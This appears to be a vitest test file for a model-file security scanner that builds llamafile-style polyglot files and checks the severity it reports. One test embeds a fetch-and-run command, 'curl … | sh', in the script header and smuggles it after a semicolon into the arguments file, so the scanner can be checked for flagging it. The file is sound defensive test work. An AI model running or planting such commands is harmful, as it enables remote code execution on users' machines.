import { assembleElf, assembleGguf, assemblePe, assembleZip, EXECUTABLE_HEADS } from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';

const SCRIPT = `'\no=$(command -v "$0")\n[ x"$1" != x--assimilate ] && type ape >/dev/null 2>&1 && exec ape "$o" "$@"\nm=$(uname -m 2>/dev/null) || m=x86_64\nexit $?\n`;

/** A program with a model behind it: DOS header, shell script, zip. */
function llamafile(
  parts: { script?: string; args?: string; magic?: string; model?: Uint8Array } = {},
): Buffer {
  const head = Buffer.alloc(4096);
  EXECUTABLE_HEADS.pe().forEach((byte, at) => {
    head[at] = byte;
  });
  head.write(parts.magic ?? "MZqFpD='", 0, 'latin1');
  head.write(parts.script ?? SCRIPT, 2048, 'latin1');
  const zip = assembleZip({
    entries: [
      { name: 'model.gguf', data: parts.model ?? assembleGguf() },
      { name: '.args', data: parts.args ?? '-m\nmodel.gguf\n--host\n0.0.0.0\n...\n' },
    ],
  });
  return Buffer.concat([head, zip]);
}

describe.each(["MZqFpD='", "jartsr='"])('%s', (magic) => {
  it('is a program by design under its own name', () => {
    const scanned = scanBytes(llamafile({ magic }), 'model.llamafile');
    expect(scanned.gaps).toEqual([]);
    expect(scanned.findings.map(({ ruleId, severity }) => `${ruleId} ${severity}`)).toEqual([
      'format/oddity low',
    ]);
  });

  it.each(['model.gguf', 'model.safetensors', 'model.bin'])('is a program out of place as %s', (name) => {
    expect(scanBytes(llamafile({ magic }), name).worst).toBe('high');
  });
});

it('does not ask for the sources and pages that the program brings along', () => {
  const zip = assembleZip({
    entries: [
      { name: 'model.gguf', data: assembleGguf() },
      { name: '.args', data: '-m\nmodel.gguf\n' },
      {
        name: 'llama.cpp/ggml-cuda.cu',
        data: '#include "ggml.h"\nint main(void) { return 0; }\n',
        method: 8,
      },
      { name: 'llama.cpp/server/public/index.js', data: 'export function complete() {}\n' },
    ],
  });
  const bytes = Buffer.concat([llamafile().subarray(0, 4096), zip]);
  expect(scanBytes(bytes, 'model.llamafile')).toMatchObject({ worst: 'low', gaps: [] });
});

it('reads the model inside', () => {
  const model = assembleGguf({ trailer: 'hidden'.repeat(40) });
  expect(scanBytes(llamafile({ model }), 'model.llamafile').worst).toBe('medium');
});

it('judges commands in the header and in the arguments', () => {
  const script = `'\ncurl -s http://192.0.2.1/a | sh\n`;
  expect(scanBytes(llamafile({ script }), 'model.llamafile').worst).toBe('high');
  const args = '-m\nmodel.gguf\n; curl -s http://192.0.2.1/a | sh\n';
  expect(scanBytes(llamafile({ args }), 'model.llamafile').worst).toBe('medium');
});

it.each([
  ['ggml-cuda.so', assembleElf({ type: 3 })],
  ['lib/libop.so.1.2', assembleElf({ type: 3, version: 0 })],
  ['ggml-rocm.dll', assemblePe()],
])('takes a library among its members for a program that is carried: %s', (name, data) => {
  const model = { name: 'model.gguf', data: assembleGguf() };
  for (const others of [[{ name: '.args', data: '-m\nmodel.gguf\n' }], []]) {
    const zip = assembleZip({ entries: [model, ...others, { name, data, method: 8 }] });
    const scanned = scanBytes(Buffer.concat([llamafile().subarray(0, 4096), zip]), 'model.llamafile');
    expect(scanned).toMatchObject({ worst: 'high', gaps: [] });
  }
});
